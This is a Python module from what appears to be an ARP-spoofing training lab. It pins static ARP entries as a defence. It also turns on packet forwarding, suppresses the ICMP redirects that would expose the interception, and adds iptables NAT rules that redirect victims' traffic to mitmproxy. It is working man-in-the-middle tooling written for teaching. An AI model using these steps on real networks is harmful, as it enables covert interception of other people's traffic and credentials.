"""What a host on the lab network does to itself with `ip`, `iptables` and /proc/sys: pin a neighbour
(the `static_arp` defence), forward packets and redirect the server's ports to mitmproxy (the attacker
in the middle). Each needs NET_ADMIN; without it, a `PositioningError` that says so."""

from __future__ import annotations

import subprocess
from collections.abc import Sequence
from pathlib import Path

from lab.arp.poison import Host, PositioningError


def _run(argv: Sequence[str], needs: str) -> None:
    try:
        done = subprocess.run(list(argv), capture_output=True, text=True, timeout=10, check=False)
    except FileNotFoundError:
        raise PositioningError(f"{argv[0]} is not installed here ({needs})") from None
    if done.returncode != 0:
        said = done.stderr.strip() or done.stdout.strip()
        raise PositioningError(f"{' '.join(argv)}: {said} ({needs})")


def pin_neighbour(interface: str, neighbour: Host) -> None:
    """A permanent ARP entry, which no reply can move: what hardened hosts and a switch's dynamic ARP
    inspection give."""
    _run(
        [
            "ip",
            "neigh",
            "replace",
            neighbour.ip,
            "lladdr",
            neighbour.mac,
            "nud",
            "permanent",
            "dev",
            interface,
        ],
        "static_arp needs NET_ADMIN on the client",
    )


def forget_neighbour(interface: str, ip: str) -> None:
    """Back to a learnt entry: the next packet asks again (a flush leaves a permanent entry alone)."""
    _run(["ip", "neigh", "del", ip, "dev", interface], "needs NET_ADMIN")


def _sysctl(path: Path, name: str, value: str) -> None:
    try:
        path.write_text(value)
    except OSError as exc:
        raise PositioningError(
            f"cannot set {name}={value} ({exc.strerror}): forwarding needs NET_ADMIN, or the sysctl set "
            "where the attacker starts (compose: sysctls)"
        ) from None


def forward_packets(interface: str) -> None:
    """Route what the poisoned victims send on, and send them no ICMP redirect that would give the path
    away ("a better route: the server's own MAC"; the kernel sends one unless `all` and the interface
    both say no)."""
    wanted = {
        "net.ipv4.ip_forward": "1",
        "net.ipv4.conf.all.send_redirects": "0",
        f"net.ipv4.conf.{interface}.send_redirects": "0",
    }
    for name, value in wanted.items():
        path = Path("/proc/sys") / name.replace(".", "/")
        if path.read_text().strip() != value:
            _sysctl(path, name, value)


def redirect_rule(interface: str, server_ip: str, port: int, to_port: int) -> list[str]:
    """What iptables' nat table needs to hand the victims' connections to the server's `port` to
    mitmproxy's transparent listener on `to_port` (which reads the original destination back)."""
    return [
        "PREROUTING",
        "-i",
        interface,
        "-p",
        "tcp",
        "-d",
        server_ip,
        "--dport",
        str(port),
        "-j",
        "REDIRECT",
        "--to-ports",
        str(to_port),
    ]


def add_redirect(rule: list[str]) -> None:
    _run(["iptables", "-t", "nat", "-A", *rule], "redirecting to mitmproxy needs NET_ADMIN")


def remove_redirect(rule: list[str]) -> None:
    _run(["iptables", "-t", "nat", "-D", *rule], "redirecting to mitmproxy needs NET_ADMIN")
